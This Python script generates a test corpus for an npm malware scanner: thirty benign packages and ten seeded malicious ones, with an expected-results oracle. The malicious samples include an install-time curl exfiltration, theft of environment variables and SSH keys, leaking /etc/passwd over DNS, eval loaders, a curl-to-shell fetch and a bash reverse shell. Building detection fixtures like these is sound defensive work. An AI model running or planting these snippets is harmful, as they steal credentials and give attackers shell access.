#!/usr/bin/env python3
"""Materialize the synthetic labeled corpus under fixtures/.

Forty small npm-style packages: ten malicious with seeded suspicious
patterns spanning all six rule categories, thirty neutral. Alongside the
package trees this writes:

  fixtures/manifest.jsonl   dataset manifest (path, label, name, version)
  fixtures/expected.json    hand-derived oracle: per-package expected mock
                            verdict and flagged-file counts

The expected values in EXPECTED were derived by hand from the default rule
set and the frozen mock-analyst formula (0.35 per distinct category, +0.3
if the network category is present, clamped to 1.0; package malicious iff
any file strictly exceeds 0.5). They are data, not pipeline output: the
acceptance suite checks the pipeline against them, not the other way
around.

Run from the repository root:  python3 tools/make_fixtures.py
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "fixtures"
CORPUS = FIXTURES / "corpus"


def pkg_json(name: str, version: str, description: str, main: str = "index.js", scripts: dict | None = None) -> str:
    data = {
        "name": name,
        "version": version,
        "description": description,
        "main": main,
        "license": "MIT",
    }
    if scripts:
        data["scripts"] = scripts
    return json.dumps(data, indent=2) + "\n"


# --------------------------------------------------------------------------
# Malicious packages (10)
# --------------------------------------------------------------------------

TABLE5_SCRIPT = (
    "#!/bin/bash\n"
    'curl -H "Hostname: $(hostname | base64)" -H "Whoami: $(whoami | base64)" '
    '-H "Pwd: $(pwd | base64)" -d $(ls -la | base64) '
    "https://eo1z2prk4as56mb.m.pipedream.net\n"
)

MALICIOUS = {
    ("corporate-delegate-packages", "1.1.3"): {
        "package.json": pkg_json(
            "corporate-delegate-packages",
            "1.1.3",
            "Delegate task helpers for corporate environments",
            scripts={"preinstall": "sh ./run.sh"},
        ),
        "run.sh": TABLE5_SCRIPT,
    },
    ("node-env-harvester", "2.1.0"): {
        "package.json": pkg_json("node-env-harvester", "2.1.0", "Runtime settings reporter"),
        "index.js": (
            "const https = require('https');\n"
            "\n"
            "function report() {\n"
            "  const payload = JSON.stringify(process.env);\n"
            "  const req = https.request({ host: 'stats-collector.example.com', "
            "method: 'POST', path: '/ingest' });\n"
            "  req.write(payload);\n"
            "  req.end();\n"
            "}\n"
            "\n"
            "module.exports = report;\n"
        ),
        "README.md": "# node-env-harvester\n\nReports runtime settings to the stats service.\n",
    },
    ("quick-eval-loader", "0.3.2"): {
        "package.json": pkg_json("quick-eval-loader", "0.3.2", "Fast plugin loader"),
        "index.js": (
            "const payload = process.env.QL_PAYLOAD || '';\n"
            "eval(Buffer.from(payload, 'base64').toString());\n"
        ),
    },
    ("ssh-backup-sync", "1.4.1"): {
        "package.json": pkg_json("ssh-backup-sync", "1.4.1", "Key backup synchronizer"),
        "sync.js": (
            "const fs = require('fs');\n"
            "const os = require('os');\n"
            "\n"
            "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
            "fetch('https://backup-mirror.example.net/keys', { method: 'POST', body: key });\n"
        ),
        "README.md": "# ssh-backup-sync\n\nKeeps your keys safe on our mirror.\n",
    },
    ("shadow-probe", "0.0.7"): {
        "package.json": pkg_json("shadow-probe", "0.0.7", "System health probe", main="probe.js"),
        "probe.js": (
            "const dns = require('dns');\n"
            "const fs = require('fs');\n"
            "\n"
            "const users = fs.readFileSync('/etc/passwd', 'utf8');\n"
            "const chunk = Buffer.from(users).toString('hex').slice(0, 60);\n"
            "dns.resolve(chunk + '.probe.example.org', () => {});\n"
        ),
    },
    ("build-cache-cleaner", "3.0.0"): {
        "package.json": pkg_json(
            "build-cache-cleaner",
            "3.0.0",
            "Cleans stale build caches",
            main="clean.js",
            scripts={"postinstall": "node clean.js"},
        ),
        "clean.js": (
            "const { execSync } = require('child_process');\n"
            "\n"
            "execSync('rm -rf ' + process.env.HOME + '/.cache/registry');\n"
        ),
    },
    ("telemetry-beacon", "1.0.3"): {
        "package.json": pkg_json("telemetry-beacon", "1.0.3", "Usage beacon", main="beacon.js"),
        "beacon.js": (
            "const data = atob('aG9zdF9zdGF0cw==');\n"
            "const xhr = new XMLHttpRequest();\n"
            "xhr.open('POST', 'https://beacon.collector.example/ingest');\n"
            "xhr.send(data);\n"
        ),
    },
    ("hex-stage-loader", "0.9.0"): {
        "package.json": pkg_json("hex-stage-loader", "0.9.0", "Stage loader", main="loader.js"),
        "loader.js": (
            "const blob = '636f6e736f6c652e6c6f672822737461676522293b' +\n"
            "  '2f2f206e657874207374616765206c6f61646572';\n"
            "const code = Buffer.from(blob, 'hex').toString('utf8');\n"
            "new Function(code)();\n"
        ),
    },
    ("paste-fetch-runner", "2.2.0"): {
        "package.json": pkg_json(
            "paste-fetch-runner",
            "2.2.0",
            "Remote task runner",
            main="runner.sh",
            scripts={"install": "sh runner.sh"},
        ),
        "runner.sh": "#!/bin/sh\ncurl -s https://pastebin.com/raw/AbCdEf12 | sh\n",
    },
    ("reverse-shell-utility", "0.1.0"): {
        "package.json": pkg_json(
            "reverse-shell-utility", "0.1.0", "Maintenance helper", main="shell.sh"
        ),
        "shell.sh": (
            "#!/bin/sh\n"
            "chmod 755 /tmp/.helper\n"
            "bash -i >& /dev/tcp/203.0.113.12/4444 0>&1\n"
        ),
    },
}

# --------------------------------------------------------------------------
# Neutral packages (30)
# --------------------------------------------------------------------------


def _js_package(name: str, version: str, description: str, index_js: str, readme: str | None = None, scripts: dict | None = None, index_name: str = "index.js") -> dict:
    files = {
        "package.json": pkg_json(name, version, description, main=index_name, scripts=scripts),
        index_name: index_js,
    }
    if readme:
        files["README.md"] = readme
    return files


NEUTRAL = {
    ("left-padder", "1.0.2"): _js_package(
        "left-padder",
        "1.0.2",
        "Pad strings on the left",
        "function leftPad(text, width, fill) {\n"
        "  fill = fill || ' ';\n"
        "  text = String(text);\n"
        "  while (text.length < width) {\n"
        "    text = fill + text;\n"
        "  }\n"
        "  return text;\n"
        "}\n"
        "\n"
        "module.exports = leftPad;\n",
        "# left-padder\n\nPads strings to a minimum width.\n",
    ),
    ("string-case-utils", "2.3.1"): _js_package(
        "string-case-utils",
        "2.3.1",
        "Case conversion helpers",
        "function toTitle(text) {\n"
        "  return text.replace(/\\b\\w/g, (c) => c.toUpperCase());\n"
        "}\n"
        "\n"
        "function toSnake(text) {\n"
        "  return text.replace(/([a-z])([A-Z])/g, '$1_$2').toLowerCase();\n"
        "}\n"
        "\n"
        "module.exports = { toTitle, toSnake };\n",
        "# string-case-utils\n\nSmall case conversion helpers.\n",
    ),
    ("tiny-event-bus", "0.8.0"): _js_package(
        "tiny-event-bus",
        "0.8.0",
        "Minimal publish/subscribe bus",
        "class EventBus {\n"
        "  constructor() {\n"
        "    this.handlers = {};\n"
        "  }\n"
        "  on(name, fn) {\n"
        "    (this.handlers[name] = this.handlers[name] || []).push(fn);\n"
        "  }\n"
        "  emit(name, value) {\n"
        "    (this.handlers[name] || []).forEach((fn) => fn(value));\n"
        "  }\n"
        "}\n"
        "\n"
        "module.exports = EventBus;\n",
        "# tiny-event-bus\n\nA very small event emitter.\n",
    ),
    ("color-hex-parser", "1.1.0"): _js_package(
        "color-hex-parser",
        "1.1.0",
        "Parse CSS color strings",
        "function parseColor(text) {\n"
        "  const m = text.match(/^#([0-9a-f]{6})$/i);\n"
        "  if (!m) {\n"
        "    return null;\n"
        "  }\n"
        "  const value = m[1];\n"
        "  return {\n"
        "    r: parseInt(value.slice(0, 2), 16),\n"
        "    g: parseInt(value.slice(2, 4), 16),\n"
        "    b: parseInt(value.slice(4, 6), 16),\n"
        "  };\n"
        "}\n"
        "\n"
        "module.exports = parseColor;\n",
        "# color-hex-parser\n\nParses six-digit color codes.\n",
    ),
    ("date-format-lite", "3.0.4"): _js_package(
        "date-format-lite",
        "3.0.4",
        "Tiny date formatter",
        "function format(date, pattern) {\n"
        "  const pad = (n) => String(n).padStart(2, '0');\n"
        "  return pattern\n"
        "    .replace('YYYY', date.getFullYear())\n"
        "    .replace('MM', pad(date.getMonth() + 1))\n"
        "    .replace('DD', pad(date.getDate()));\n"
        "}\n"
        "\n"
        "module.exports = format;\n",
        "# date-format-lite\n\nFormats dates with a tiny pattern language.\n",
    ),
    ("deep-clone-mini", "1.2.0"): _js_package(
        "deep-clone-mini",
        "1.2.0",
        "Structural clone for plain data",
        "function clone(value) {\n"
        "  if (Array.isArray(value)) {\n"
        "    return value.map(clone);\n"
        "  }\n"
        "  if (value && typeof value === 'object') {\n"
        "    const out = {};\n"
        "    for (const key of Object.keys(value)) {\n"
        "      out[key] = clone(value[key]);\n"
        "    }\n"
        "    return out;\n"
        "  }\n"
        "  return value;\n"
        "}\n"
        "\n"
        "module.exports = clone;\n",
        "# deep-clone-mini\n\nClones nested plain objects and arrays.\n",
    ),
    ("query-string-lite", "0.5.2"): _js_package(
        "query-string-lite",
        "0.5.2",
        "Query string encode/decode",
        "function parse(qs) {\n"
        "  const out = {};\n"
        "  for (const pair of qs.replace(/^\\?/, '').split('&')) {\n"
        "    if (!pair) continue;\n"
        "    const [k, v] = pair.split('=');\n"
        "    out[decodeURIComponent(k)] = decodeURIComponent(v || '');\n"
        "  }\n"
        "  return out;\n"
        "}\n"
        "\n"
        "module.exports = parse;\n",
        "# query-string-lite\n\nParses query strings into plain objects.\n",
    ),
    ("array-chunked", "2.0.0"): _js_package(
        "array-chunked",
        "2.0.0",
        "Split arrays into chunks",
        "function chunk(items, size) {\n"
        "  const out = [];\n"
        "  for (let i = 0; i < items.length; i += size) {\n"
        "    out.push(items.slice(i, i + size));\n"
        "  }\n"
        "  return out;\n"
        "}\n"
        "\n"
        "module.exports = chunk;\n",
        "# array-chunked\n\nChunking helper for arrays.\n",
    ),
    ("safe-json-parse", "1.0.8"): _js_package(
        "safe-json-parse",
        "1.0.8",
        "JSON.parse without throwing",
        "function safeParse(text, fallback) {\n"
        "  try {\n"
        "    return JSON.parse(text);\n"
        "  } catch (err) {\n"
        "    return fallback === undefined ? null : fallback;\n"
        "  }\n"
        "}\n"
        "\n"
        "module.exports = safeParse;\n",
        "# safe-json-parse\n\nReturns a fallback instead of throwing.\n",
    ),
    ("markdown-table-gen", "0.9.1"): _js_package(
        "markdown-table-gen",
        "0.9.1",
        "Render arrays as tables",
        "function table(rows) {\n"
        "  if (!rows.length) return '';\n"
        "  const header = Object.keys(rows[0]);\n"
        "  const lines = [\n"
        "    '| ' + header.join(' | ') + ' |',\n"
        "    '|' + header.map(() => '---').join('|') + '|',\n"
        "  ];\n"
        "  for (const row of rows) {\n"
        "    lines.push('| ' + header.map((h) => row[h]).join(' | ') + ' |');\n"
        "  }\n"
        "  return lines.join('\\n');\n"
        "}\n"
        "\n"
        "module.exports = table;\n",
        "# markdown-table-gen\n\nTurns object arrays into tables.\n",
    ),
    ("emoji-strip", "1.3.0"): _js_package(
        "emoji-strip",
        "1.3.0",
        "Remove emoji from text",
        "const EMOJI = /[\\u{1F300}-\\u{1FAFF}]/gu;\n"
        "\n"
        "module.exports = function strip(text) {\n"
        "  return text.replace(EMOJI, '');\n"
        "};\n",
    ),
    ("uuid-v4-gen", "4.0.1"): _js_package(
        "uuid-v4-gen",
        "4.0.1",
        "Random identifier generator",
        "function uuid() {\n"
        "  return 'xxxxxxxx-xxxx-4xxx-yxxx-xxxxxxxxxxxx'.replace(/[xy]/g, (c) => {\n"
        "    const r = (Math.random() * 16) | 0;\n"
        "    const v = c === 'x' ? r : (r & 0x3) | 0x8;\n"
        "    return v.toString(16);\n"
        "  });\n"
        "}\n"
        "\n"
        "module.exports = uuid;\n",
    ),
    ("camelcase-keys-lite", "1.1.2"): _js_package(
        "camelcase-keys-lite",
        "1.1.2",
        "Camel-case object keys",
        "function camel(text) {\n"
        "  return text.replace(/[-_](\\w)/g, (_, c) => c.toUpperCase());\n"
        "}\n"
        "\n"
        "module.exports = function camelKeys(obj) {\n"
        "  const out = {};\n"
        "  for (const key of Object.keys(obj)) {\n"
        "    out[camel(key)] = obj[key];\n"
        "  }\n"
        "  return out;\n"
        "};\n",
    ),
    ("pluralize-basic", "0.2.0"): _js_package(
        "pluralize-basic",
        "0.2.0",
        "Naive English pluralizer",
        "module.exports = function pluralize(word, count) {\n"
        "  if (count === 1) return word;\n"
        "  if (/[sxz]$/.test(word)) return word + 'es';\n"
        "  if (/y$/.test(word)) return word.slice(0, -1) + 'ies';\n"
        "  return word + 's';\n"
        "};\n",
    ),
    ("csv-line-split", "1.0.0"): _js_package(
        "csv-line-split",
        "1.0.0",
        "Split CSV lines with quoting",
        "module.exports = function splitLine(line) {\n"
        "  const out = [];\n"
        "  let field = '';\n"
        "  let quoted = false;\n"
        "  for (const ch of line) {\n"
        "    if (ch === '\"') {\n"
        "      quoted = !quoted;\n"
        "    } else if (ch === ',' && !quoted) {\n"
        "      out.push(field);\n"
        "      field = '';\n"
        "    } else {\n"
        "      field += ch;\n"
        "    }\n"
        "  }\n"
        "  out.push(field);\n"
        "  return out;\n"
        "};\n",
    ),
    ("debounce-throttle", "2.1.0"): _js_package(
        "debounce-throttle",
        "2.1.0",
        "Rate-limit function calls",
        "function debounce(fn, wait) {\n"
        "  let timer = null;\n"
        "  return function (...args) {\n"
        "    clearTimeout(timer);\n"
        "    timer = setTimeout(() => fn.apply(this, args), wait);\n"
        "  };\n"
        "}\n"
        "\n"
        "module.exports = { debounce };\n",
    ),
    ("memoize-weak", "1.0.3"): _js_package(
        "memoize-weak",
        "1.0.3",
        "Memoize by first argument",
        "module.exports = function memoize(fn) {\n"
        "  const cache = new Map();\n"
        "  return function (key) {\n"
        "    if (!cache.has(key)) {\n"
        "      cache.set(key, fn(key));\n"
        "    }\n"
        "    return cache.get(key);\n"
        "  };\n"
        "};\n",
    ),
    ("path-join-posix", "0.4.0"): _js_package(
        "path-join-posix",
        "0.4.0",
        "Join path segments",
        "module.exports = function join(...parts) {\n"
        "  return parts\n"
        "    .filter(Boolean)\n"
        "    .join('/')\n"
        "    .replace(/\\/+/g, '/');\n"
        "};\n",
    ),
    ("semver-compare-lite", "1.0.1"): _js_package(
        "semver-compare-lite",
        "1.0.1",
        "Compare dotted versions",
        "module.exports = function compare(a, b) {\n"
        "  const pa = a.split('.').map(Number);\n"
        "  const pb = b.split('.').map(Number);\n"
        "  for (let i = 0; i < 3; i++) {\n"
        "    if ((pa[i] || 0) > (pb[i] || 0)) return 1;\n"
        "    if ((pa[i] || 0) < (pb[i] || 0)) return -1;\n"
        "  }\n"
        "  return 0;\n"
        "};\n",
    ),
    ("byte-size-format", "0.7.2"): _js_package(
        "byte-size-format",
        "0.7.2",
        "Human readable byte counts",
        "const UNITS = ['B', 'KB', 'MB', 'GB', 'TB'];\n"
        "\n"
        "module.exports = function format(bytes) {\n"
        "  let i = 0;\n"
        "  while (bytes >= 1024 && i < UNITS.length - 1) {\n"
        "    bytes /= 1024;\n"
        "    i += 1;\n"
        "  }\n"
        "  return bytes.toFixed(1) + ' ' + UNITS[i];\n"
        "};\n",
    ),
    ("ansi-color-strip", "1.2.1"): _js_package(
        "ansi-color-strip",
        "1.2.1",
        "Remove terminal color codes",
        "const PATTERN = /\\u001b\\[[0-9;]*m/g;\n"
        "\n"
        "module.exports = function strip(text) {\n"
        "  return text.replace(PATTERN, '');\n"
        "};\n",
    ),
    ("object-pick-omit", "2.2.0"): _js_package(
        "object-pick-omit",
        "2.2.0",
        "Pick or omit object keys",
        "function pick(obj, keys) {\n"
        "  const out = {};\n"
        "  for (const key of keys) {\n"
        "    if (key in obj) out[key] = obj[key];\n"
        "  }\n"
        "  return out;\n"
        "}\n"
        "\n"
        "function omit(obj, keys) {\n"
        "  const drop = new Set(keys);\n"
        "  const out = {};\n"
        "  for (const key of Object.keys(obj)) {\n"
        "    if (!drop.has(key)) out[key] = obj[key];\n"
        "  }\n"
        "  return out;\n"
        "}\n"
        "\n"
        "module.exports = { pick, omit };\n",
    ),
    ("slugify-text", "1.0.5"): _js_package(
        "slugify-text",
        "1.0.5",
        "URL-friendly slugs",
        "module.exports = function slugify(text) {\n"
        "  return text\n"
        "    .toLowerCase()\n"
        "    .trim()\n"
        "    .replace(/[^a-z0-9]+/g, '-')\n"
        "    .replace(/^-+|-+$/g, '');\n"
        "};\n",
    ),
    ("linked-list-mini", "0.3.0"): _js_package(
        "linked-list-mini",
        "0.3.0",
        "Singly linked list",
        "class Node {\n"
        "  constructor(value) {\n"
        "    this.value = value;\n"
        "    this.next = null;\n"
        "  }\n"
        "}\n"
        "\n"
        "class LinkedList {\n"
        "  constructor() {\n"
        "    this.head = null;\n"
        "  }\n"
        "  push(value) {\n"
        "    const node = new Node(value);\n"
        "    if (!this.head) {\n"
        "      this.head = node;\n"
        "      return;\n"
        "    }\n"
        "    let cur = this.head;\n"
        "    while (cur.next) cur = cur.next;\n"
        "    cur.next = node;\n"
        "  }\n"
        "}\n"
        "\n"
        "module.exports = LinkedList;\n",
    ),
    ("retry-backoff", "1.4.0"): _js_package(
        "retry-backoff",
        "1.4.0",
        "Retry promises with delays",
        "async function retry(fn, attempts, delayMs) {\n"
        "  let lastError;\n"
        "  for (let i = 0; i < attempts; i++) {\n"
        "    try {\n"
        "      return await fn();\n"
        "    } catch (err) {\n"
        "      lastError = err;\n"
        "      await new Promise((r) => setTimeout(r, delayMs * (i + 1)));\n"
        "    }\n"
        "  }\n"
        "  throw lastError;\n"
        "}\n"
        "\n"
        "module.exports = retry;\n",
    ),
    ("template-interp", "0.6.1"): _js_package(
        "template-interp",
        "0.6.1",
        "Tiny mustache-style templates",
        "module.exports = function render(template, values) {\n"
        "  return template.replace(/\\{\\{(\\w+)\\}\\}/g, (_, name) => {\n"
        "    return name in values ? String(values[name]) : '';\n"
        "  });\n"
        "};\n",
    ),
    ("base64-url-codec", "1.1.1"): _js_package(
        "base64-url-codec",
        "1.1.1",
        "URL-safe binary-to-text codec",
        "function encode(buf) {\n"
        "  return Buffer.from(buf)\n"
        "    .toString('base64')\n"
        "    .replace(/\\+/g, '-')\n"
        "    .replace(/\\//g, '_')\n"
        "    .replace(/=+$/, '');\n"
        "}\n"
        "\n"
        "function decode(text) {\n"
        "  const padded = text.replace(/-/g, '+').replace(/_/g, '/');\n"
        "  return Buffer.from(padded, 'base64');\n"
        "}\n"
        "\n"
        "module.exports = { encode, decode };\n",
        "# base64-url-codec\n\nEncodes binary data with a URL-safe alphabet.\n",
    ),
    ("asset-postinstall-note", "0.1.2"): {
        "package.json": pkg_json(
            "asset-postinstall-note",
            "0.1.2",
            "Prints a thank-you note after setup",
            main="scripts/notice.js",
            scripts={"postinstall": "node scripts/notice.js"},
        ),
        "scripts/notice.js": "console.log('thanks for installing asset-postinstall-note');\n",
        "README.md": "# asset-postinstall-note\n\nPrints a short note after setup.\n",
    },
    ("readme-only-package", "1.0.0"): {
        "package.json": pkg_json("readme-only-package", "1.0.0", "Documentation placeholder"),
        "README.md": "# readme-only-package\n\nThis package intentionally ships documentation only.\n",
    },
    ("config-defaults-merge", "2.0.3"): _js_package(
        "config-defaults-merge",
        "2.0.3",
        "Merge settings with defaults",
        "module.exports = function withDefaults(config, defaults) {\n"
        "  const out = {};\n"
        "  for (const key of Object.keys(defaults)) {\n"
        "    out[key] = key in config ? config[key] : defaults[key];\n"
        "  }\n"
        "  for (const key of Object.keys(config)) {\n"
        "    if (!(key in out)) out[key] = config[key];\n"
        "  }\n"
        "  return out;\n"
        "};\n",
    ),
}

# Hand-derived oracle. Per package: expected mock verdict, the expected
# maximum final malware score, and how many files the default rules flag.
EXPECTED = {
    "corporate-delegate-packages": {"max_malware": 1.0, "flagged_files": 2},
    "node-env-harvester": {"max_malware": 1.0, "flagged_files": 1},
    "quick-eval-loader": {"max_malware": 0.7, "flagged_files": 1},
    "ssh-backup-sync": {"max_malware": 1.0, "flagged_files": 1},
    "shadow-probe": {"max_malware": 1.0, "flagged_files": 1},
    "build-cache-cleaner": {"max_malware": 0.7, "flagged_files": 2},
    "telemetry-beacon": {"max_malware": 1.0, "flagged_files": 1},
    "hex-stage-loader": {"max_malware": 0.7, "flagged_files": 1},
    "paste-fetch-runner": {"max_malware": 1.0, "flagged_files": 2},
    "reverse-shell-utility": {"max_malware": 1.0, "flagged_files": 1},
    "base64-url-codec": {"max_malware": 0.35, "flagged_files": 3},
    "asset-postinstall-note": {"max_malware": 0.35, "flagged_files": 1},
}


def main() -> None:
    if CORPUS.exists():
        shutil.rmtree(CORPUS)
    CORPUS.mkdir(parents=True)

    manifest_lines = []
    expected_packages = {}
    files_total = 0
    files_flagged = 0

    for label, packages in (("malicious", MALICIOUS), ("neutral", NEUTRAL)):
        for (name, version), files in packages.items():
            pkg_dir = CORPUS / name
            for rel, content in files.items():
                target = pkg_dir / rel
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(content, encoding="utf-8")
            files_total += len(files)
            manifest_lines.append(
                json.dumps(
                    {"path": f"corpus/{name}", "label": label, "name": name, "version": version}
                )
            )
            oracle = EXPECTED.get(name, {"max_malware": 0.0, "flagged_files": 0})
            files_flagged += oracle["flagged_files"]
            expected_packages[name] = {
                "version": version,
                "label": label,
                "expected_malicious": label == "malicious",
                "expected_max_malware": oracle["max_malware"],
                "expected_flagged_files": oracle["flagged_files"],
                "file_count": len(files),
            }

    (FIXTURES / "manifest.jsonl").write_text("\n".join(manifest_lines) + "\n", encoding="utf-8")
    (FIXTURES / "expected.json").write_text(
        json.dumps(
            {
                "packages": expected_packages,
                "totals": {
                    "packages": len(expected_packages),
                    "malicious": len(MALICIOUS),
                    "neutral": len(NEUTRAL),
                    "files_total": files_total,
                    "files_flagged": files_flagged,
                },
            },
            indent=2,
        )
        + "\n",
        encoding="utf-8",
    )
    print(f"wrote {len(expected_packages)} packages, {files_total} files, {files_flagged} flagged")


if __name__ == "__main__":
    main()
